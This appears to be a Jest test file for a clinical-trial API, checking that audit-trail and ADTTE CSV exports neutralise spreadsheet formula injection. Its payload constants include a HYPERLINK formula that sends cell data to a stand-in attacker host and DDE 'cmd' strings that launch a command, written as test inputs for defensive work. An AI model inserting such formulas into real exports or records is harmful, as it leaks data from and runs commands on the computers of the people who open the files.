import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { adtteCsv, loadStudyPfs } from '@trial-ledger/pfs';
import { bodies, enrolledSubject, STUDY, startApiTestApp, type ApiTestApp } from '../api/support/api-test-app';

/** Cells typed by users, crafted to run as formulas when a monitor opens the export in a spreadsheet. */
const PAYLOADS = {
  lotNumber: '=HYPERLINK("http://attacker.test/?"&A1,"Lot details")',
  reason: '+cmd|\' /C calc\'!A0',
  description: '-2+3+cmd|\' /C calc\'!A0',
  term: '@SUM(1+1)*cmd|\' /C calc\'!A0',
};

describe('CSV exports neutralise formula injection (OWASP), read back with csv-parse', () => {
  let api: ApiTestApp;
  beforeAll(async () => {
    api = await startApiTestApp();
    await enrolledSubject(api, 'S001');
    const post = (path: string, body: object) =>
      request(api.http).post(`/api/v1/studies/${STUDY}/subjects/S001/${path}`).set('Authorization', api.auth('investigator')).send(body).expect(201);
    await post('doses', { ...bodies.dose(), lotNumber: PAYLOADS.lotNumber });
    await post('missed-doses', { cycle: 2, dueOn: '2026-04-03', reason: PAYLOADS.reason });
    await post('deviations', { deviationDate: '2026-03-07', category: 'other', description: PAYLOADS.description, severity: 'minor' });
    await post('adverse-events', { term: PAYLOADS.term, onsetDate: '2026-03-08', ctcaeGrade: 1, serious: false, relatedness: 'possible' });
  });
  afterAll(async () => api.close());

  it('given user-typed cells starting with = + - @, when the audit trail is exported as CSV, then no cell starts a formula and the text is kept', async () => {
    const response = await request(api.http).get('/api/v1/exports/audit-trail?format=csv&subject=S001').set('Authorization', api.auth('monitor')).expect(200);
    const records = parse(response.text, { columns: true }) as Array<Record<string, string>>;
    // Every cell of every row: none can start a formula, whatever was typed.
    for (const cell of records.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Event data sits in the JSON `fields` cell (starting with "{"), where the typed text is kept verbatim.
    const fields = (type: string): Record<string, unknown> => JSON.parse(records.find((r) => r.event_type === type)!.fields) as Record<string, unknown>;
    expect(fields('DoseAdministered').lotNumber).toBe(PAYLOADS.lotNumber);
    expect(fields('DoseMissed').reason).toBe(PAYLOADS.reason);
    expect(fields('ProtocolDeviationRecorded').description).toBe(PAYLOADS.description);
    expect(fields('AdverseEventReported').term).toBe(PAYLOADS.term);
  });

  it('given a reason typed as a formula, when it lands in the bare reason column, then the cell reads back as quote + the text typed', async () => {
    await request(api.http)
      .post(`/api/v1/studies/${STUDY}/lock`)
      .set('Authorization', api.auth('admin'))
      .send({ reason: PAYLOADS.reason })
      .expect((r) => expect([200, 201]).toContain(r.status));
    const response = await request(api.http).get('/api/v1/exports/audit-trail?format=csv&type=StudyLocked').set('Authorization', api.auth('monitor')).expect(200);
    const [row] = parse(response.text, { columns: true }) as Array<Record<string, string>>;
    expect(row.reason).toBe(`'${PAYLOADS.reason}`);
  });

  it('given an ADTTE text cell that would start a formula, when written as CSV, then it reads back quote-prefixed while numbers stay numbers', async () => {
    const pfs = await loadStudyPfs(api.store, STUDY);
    const tampered = { ...pfs, subjects: pfs.subjects.map((s) => ({ ...s, studyId: '=cmd|\' /C calc\'!A0' })) };
    const [row] = parse(adtteCsv(tampered), { columns: true }) as Array<Record<string, string>>;
    expect(row.STUDYID).toBe("'=cmd|' /C calc'!A0");
    expect(row.USUBJID).toBe("'=cmd|' /C calc'!A0-S001");
    expect(Number(row.AVAL)).toBeGreaterThan(0);
  });
});
